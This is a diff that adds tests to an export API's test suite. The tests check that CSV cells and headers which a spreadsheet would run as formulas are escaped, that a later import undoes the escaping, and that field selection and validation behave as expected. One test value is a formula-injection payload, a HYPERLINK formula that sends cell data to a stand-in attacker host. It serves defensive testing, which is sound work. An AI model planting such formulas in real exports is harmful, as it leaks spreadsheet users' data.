@@ -76,6 +76,43 @@ describe('a CSV export', () => {
     );
   });
 
+  test('201 and 200 with an apostrophe before texts that a spreadsheet would run, which an import removes', async () => {
+    const text = { type: 'String' };
+    const typed = ['title', 'a', 'b', 'c', 'd', 'e', 'f', 'g'].map((key) => ({ key, ...text }));
+    const fields = [...typed, { key: 'views', type: 'Number' }, { key: 'tags', type: 'Array', items: text }];
+    const [from, to, free] = [await at.newCollection(fields), await at.newCollection(fields), await at.newCollection()];
+    const document = {
+      title: '=HYPERLINK("https://evil.example?x="&A1,"Open")',
+      a: '+49 170 1',
+      b: '-2',
+      c: '@SUM(A1)',
+      d: '\t=1',
+      e: "'=already",
+      f: "it's 'quoted'",
+      g: '＝1+1',
+      views: -2.5,
+      tags: ['=1'],
+    };
+    await insert(from, [document]);
+    const { text: file } = await download((await at.exported(from, { format: 'csv' })).url);
+    const [, row = ''] = file.split('\n');
+    const { text: chosen } = await download(
+      (await at.exported(from, { format: 'csv', fields: Object.keys(document) })).url,
+    );
+    expect(chosen.split('\n')[1]).toBe(
+      `"'=HYPERLINK(""https://evil.example?x=""&A1,""Open"")",'+49 170 1,'-2,'@SUM(A1),"'\t=1",''=already,it's 'quoted','＝1+1,-2.5,"[""=1""]"`,
+    );
+    for (const cell of row.split(',')) expect(cell).not.toMatch(/^"?(?:[=+@\t＝]|-(?!2\.5))/);
+    await at.imported(to, { format: 'csv', content: file });
+    expect(await documentsIn(to)).toMatchObject([document]);
+    const named = await at.newCollection();
+    await insert(named, [{ '=cmd': 'x', "'-y": 'z' }]);
+    const { text: names } = await download((await at.exported(named, { format: 'csv', fields: ['=cmd', "'-y"] })).url);
+    expect(names).toBe("'=cmd,''-y\nx,z\n");
+    await at.imported(free, { format: 'csv', content: names });
+    expect(await documentsIn(free)).toMatchObject([{ '=cmd': 'x', "'-y": 'z' }]);
+  });
+
   test('200 without any line for an empty collection', async () => {
     const done = await at.exported(await at.newCollection(), { format: 'csv' });
     expect(done).toMatchObject({ state: 'done', count: 0, bytes: 0 });
@@ -127,6 +164,41 @@ describe('an export with where', () => {
     for (const title of ['t1', 't2', 't16', 't19']) expect(text).toMatch(new RegExp(`\\b${title}\\b`));
     for (const title of ['t3', 't15']) expect(text).not.toMatch(new RegExp(`\\b${title}\\b`));
     expect(await at.exported(collection, { format, where, includeDeleted: true })).toMatchObject({ count: 7 });
+  });
+
+  test.each(['ndjson', 'json', 'csv'])('200 with the chosen fields only as %s', async (format) => {
+    const collection = await at.newCollection();
+    await insert(collection, [
+      { title: 'a', meta: { source: 'x', secret: 's' }, items: [{ price: 1 }, { price: 2 }, {}], views: 1 },
+      { title: 'b', views: 9 },
+    ]);
+    const fields = ['meta.source', 'title', 'items.price', 'title'];
+    const done = await at.exported(collection, { format, fields, where: { views: { $lt: 9 } } });
+    expect(done).toMatchObject({ state: 'done', count: 1, fields: ['meta.source', 'title', 'items.price'] });
+    const { text } = await download(done.url);
+    if (format === 'csv') {
+      expect(text).toBe('meta.source,title,items.price\nx,a,"[1,2]"\n');
+      return;
+    }
+    const [document] = format === 'json' ? JSON.parse(text) : [JSON.parse(text)];
+    expect(document).toEqual({
+      _id: expect.any(String),
+      title: 'a',
+      meta: { source: 'x' },
+      items: [{ price: 1 }, { price: 2 }, {}],
+    });
+  });
+
+  test('400 INVALID_QUERY and VALIDATION_FAILED for fields that no list takes', async () => {
+    const collection = await at.newCollection();
+    const codeOf = async (fields: unknown) => {
+      const { status, body } = await at.dashboard('POST', collection, 'exports', { format: 'csv', fields });
+      return [status, (body as { code?: string }).code];
+    };
+    expect(await codeOf(['a', 'a.b'])).toEqual([400, 'INVALID_QUERY']);
+    expect(await codeOf(['$a'])).toEqual([400, 'INVALID_QUERY']);
+    expect(await codeOf([])).toEqual([400, 'VALIDATION_FAILED']);
+    expect(await codeOf('a')).toEqual([400, 'VALIDATION_FAILED']);
   });
 
   test('400 INVALID_FILTER, INVALID_REGEX and VALIDATION_FAILED for conditions that no list takes', async () => {
